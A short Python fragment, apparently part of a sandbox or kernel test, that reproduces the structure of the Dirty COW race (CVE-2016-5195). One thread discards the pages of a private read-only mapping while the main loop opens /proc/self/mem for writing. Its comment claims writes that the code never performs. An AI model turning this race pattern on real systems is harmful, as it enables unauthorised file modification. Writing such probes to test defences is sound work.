# Writes through the copy of a private mapping while its pages are given up, as CVE-2016-5195 did.
import mmap, threading
fd = os.open(stage["shown"] + "/writable", os.O_RDONLY)
area = mmap.mmap(fd, 5, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
def give_up():
    for _ in range(300):
        with suppress(OSError, ValueError): area.madvise(mmap.MADV_DONTNEED)
thread = threading.Thread(target=give_up); thread.start()
for _ in range(300):
    with suppress(OSError):
        with open("/proc/self/mem", "r+b", buffering=0) as memory: memory.seek(0)
thread.join()
